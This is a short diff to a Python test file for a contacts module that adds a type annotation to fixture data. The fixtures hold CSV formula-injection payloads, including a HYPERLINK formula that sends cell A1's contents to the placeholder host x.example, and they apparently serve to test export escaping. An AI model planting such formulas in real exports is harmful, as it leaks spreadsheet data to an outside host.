@@ -23,7 +23,7 @@ from goteo.contacts.models import Contact
 pytestmark = pytest.mark.django_db
 
 LINK = '=HYPERLINK("http://x.example/?"&A1;"click")'
-PEOPLE = [
+PEOPLE: list[dict[str, Any]] = [
     {"email": "link@example.com", "first_name": LINK, "last_name": "@SUM(1)"},
     {"email": "sign@example.com", "first_name": "-1", "last_name": "+1", "attributes": {"n": -5}},
     {"email": "tab@example.com", "first_name": "'=quoted", "attributes": {"note": "\t=1"}},
